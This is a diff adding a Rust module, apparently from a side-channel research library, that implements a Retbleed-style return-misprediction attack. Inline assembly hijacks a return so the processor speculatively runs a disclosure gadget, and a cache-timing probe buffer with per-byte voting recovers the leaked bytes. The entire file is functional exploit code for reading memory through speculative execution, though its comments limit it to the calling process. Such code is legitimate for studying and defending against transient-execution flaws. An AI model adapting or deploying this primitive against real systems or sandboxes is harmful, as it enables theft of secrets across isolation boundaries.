@@ -0,0 +1,114 @@
+//! Return mispredictions in the style of Retbleed. A `ret` is predicted
+//! before its return address is loaded from the stack, from the return stack
+//! buffer, or on parts where that underflows or doesn't exist, from the
+//! branch target buffer. If the prediction is wrong, whatever runs at the
+//! predicted address runs speculatively until the real address arrives.
+//!
+//! The victim here calls a function that rewrites its own return address to
+//! skip the code right after the call, and flushes it. The return stack
+//! buffer still predicts a return to right after the call, where a
+//! disclosure gadget leaks the byte it is pointed at through the probe
+//! buffer. Retbleed proper poisons the prediction of a kernel return from
+//! user space, which the kernel's `retbleed` mitigations (untrained return
+//! thunks, IBRS) are designed to prevent. Returns inside this process aren't
+//! covered by those.
+
+use std::io;
+
+use channel::Channel;
+use covert::CovertChannel;
+use probe_buf::ProbeBuffer;
+use reader::{ByteGuess, TIMINGS_PER_GUESS};
+use receiver::Receiver;
+
+// attacks voted on per byte, each decoded from TIMINGS_PER_GUESS timings
+const ROUNDS: usize = 16;
+
+// the victim and the gadget. the call pushes the gadget's address as its
+// return address, which the return stack buffer predicts. the callee
+// replaces it with the address past the gadget and flushes it, so its `ret`
+// runs the gadget speculatively while the real address is loaded. the gadget
+// is written in assembly to keep it where the call returns to, and encodes
+// through lines, the probe buffer line for each value. the stack pointer is
+// moved past the red zone first, which the call would overwrite
+#[inline(never)]
+unsafe fn hijacked_return(lines: *const *const u8, addr: *const u8) {
+    asm!("
+        sub $$128, %rsp
+        call 1f
+        movzbl ($1), %eax
+        movq ($0, %rax, 8), %rax
+        movq (%rax), %rax
+    2:
+        pause
+        jmp 2b
+    1:
+        leaq 3f(%rip), %rax
+        movq %rax, (%rsp)
+        clflush (%rsp)
+        ret
+    3:
+        add $$128, %rsp
+        "
+        :
+        : "r" (lines), "r" (addr)
+        : "rax", "memory"
+        : "volatile");
+}
+
+/// Reads memory of the calling process through a return mispredicted into
+/// a disclosure gadget, receiving through a page per value probe buffer.
+pub struct ReturnMispredict {
+    receiver: Receiver,
+}
+
+impl ReturnMispredict {
+    /// Allocates the probe buffer and calibrates the cache hit threshold.
+    pub fn new() -> io::Result<ReturnMispredict> {
+        let channel = Channel::Page;
+        let probe_buf = ProbeBuffer::private(channel.buf_len(), false)?;
+        let receiver = Receiver::new(probe_buf, channel);
+        Ok(ReturnMispredict {
+            receiver,
+        })
+    }
+
+    /// The probe buffer the attack leaks through, and its calibration.
+    pub fn receiver(&self) -> &Receiver {
+        &self.receiver
+    }
+
+    /// Leaks the byte at `addr`, which has to be mapped in this process to
+    /// leak anything, along with how confident the guess is.
+    pub fn guess_byte(&self, addr: *const u8) -> ByteGuess {
+        let mut order = self.receiver.order();
+        let mut channel = self.receiver.channel(&mut order);
+
+        let mut hit_counts = [0usize; 256];
+        for _ in 0..ROUNDS {
+            for _ in 0..TIMINGS_PER_GUESS {
+                unsafe {
+                    channel.prepare(1);
+                    let mut lines = [0 as *const u8; 256];
+                    for (value, line) in lines.iter_mut().enumerate() {
+                        *line = channel.line(0, value as u8)
+                    }
+                    hijacked_return(lines.as_ptr(), addr);
+                    channel.receive(1);
+                }
+            }
+            if let Some(byte) = channel.decode(1)[0] {
+                hit_counts[byte as usize] += 1
+            }
+        }
+        ByteGuess::from_hit_counts(&hit_counts, ROUNDS)
+    }
+
+    /// Leaks `len` bytes starting at `addr`, along with how confident each
+    /// guess is.
+    pub fn guess_range(&self, addr: *const u8, len: usize) -> Vec<ByteGuess> {
+        (0..len)
+            .map(|i| self.guess_byte(addr.wrapping_add(i)))
+            .collect()
+    }
+}